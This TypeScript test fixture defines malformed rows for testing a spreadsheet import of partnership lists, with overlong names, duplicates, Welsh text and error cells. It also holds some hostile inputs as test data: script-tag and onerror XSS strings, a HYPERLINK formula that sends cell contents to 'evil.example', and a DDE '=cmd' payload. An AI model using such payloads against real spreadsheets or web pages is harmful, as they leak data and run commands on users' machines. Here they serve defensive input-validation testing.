import { ListCell, textCell } from './listCell';
import { placesA } from './listA';
import { placesB } from './listB';
import type { Fault, ListShape, MessyRow } from './messyRow';

/** A row that is odder than the others, by its place among the entries (from 0). */
type Odd = (row: MessyRow, rows: readonly MessyRow[]) => MessyRow;

const named = (name: string, fault?: Fault): Odd => (row) => ({ ...withCell(row, 0, textCell(name)), fault, means: row.means && { ...row.means, name: name.replace(/\s+/g, ' ').trim() } });

/** The name of another row, perhaps in other letters: both are refused or asked about, for nobody can tell which one is meant. */
const likeRow = (other: number, write: (name: string) => string = (name) => name): Odd => (row, rows) => named(write(nameOf(rows[other])), 'nameTwice')(row, rows);
const twice: Odd = (row) => ({ ...row, fault: 'nameTwice' });

const purpose = (place: number, text: string, fault?: Fault): Odd => (row) => ({ ...withCell(row, place, textCell(text)), fault, means: row.means && { ...row.means, purpose: text } });

export const oddRows: Readonly<Record<ListShape, Readonly<Record<number, Odd>>>> = {
  a: {
    9: named(`Partnership ${'of everybody '.repeat(800)}`.slice(0, 10_000).replace(/ $/, 's'), 'nameTooLong'),
    12: twice,
    13: twice,
    19: (row) => ({ ...withCell(row, placesA.name, undefined), fault: 'nameMissing' }),
    24: named('<script>alert("partnership")</script> Youth Forum'),
    25: purpose(placesA.purpose, '<img src=x onerror=alert(1)> &amp; "more"'),
    29: named('=HYPERLINK("https://evil.example/?"&A1,"Open me")'),
    34: likeRow(12),
    47: likeRow(13, (name) => `  ${name.toUpperCase().replace(' ', '  ')} `),
    52: named('Partneriaeth Tŷ’r Ŵyl a’r Cylch'),
    53: named('Grŵp Dŵr Glân Cwm Siôn'),
    61: named(`Alliance ${'a'.repeat(247)}`, 'nameTooLong'),
    62: named(`Alliance ${'b'.repeat(246)}`),
    77: (row) => ({ ...withCell(row, placesA.budget, { kind: 'error', text: '#N/A' }), fault: 'errorCell' }),
    88: named(' \u00A0Lower Onnen\u00A0Access  Forum '),
    95: named('Cwm Onnen Public Services Board'),
    96: named('Safer Cwm Onnen Community Safety Partnership '),
    103: named('+44 Community Network'),
    104: named('@Home Forum'),
    105: purpose(placesA.purpose, '- to be written'),
    120: (row) => ({ ...withCell(row, placesA.budget, { kind: 'formula', formula: 'SUM(40000,2500.5)', result: { kind: 'number', number: 42_500.5, money: true } }), means: row.means && { ...row.means, totalBudget: 42_500.5 } }),
    131: named('Good Food & Growing “Onnen” – 2025')
  },
  b: {
    7: twice,
    15: purpose(placesB.purpose, `Aims: ${'to work together. '.repeat(600)}`.slice(0, 10_001), 'textTooLong'),
    22: named("=cmd|' /C calc'!A0"),
    33: named('Partneriaeth Cymraeg Tŷ-coed a Bryn Llŷr'),
    41: purpose(placesB.purpose, 'Aims\u000Bas pasted\tfrom an old document\u0007'),
    50: named('Ffair Haf 🌞 Summer Fair Partnership'),
    58: likeRow(7),
    59: likeRow(7, (name) => name.toLowerCase())
  }
};

export function nameOf({ means }: MessyRow): string {
  return means?.name ?? '';
}

function withCell(row: MessyRow, place: number, cell: ListCell | undefined): MessyRow {
  return { ...row, cells: row.cells.map((each, at) => (at === place ? cell : each)) };
}
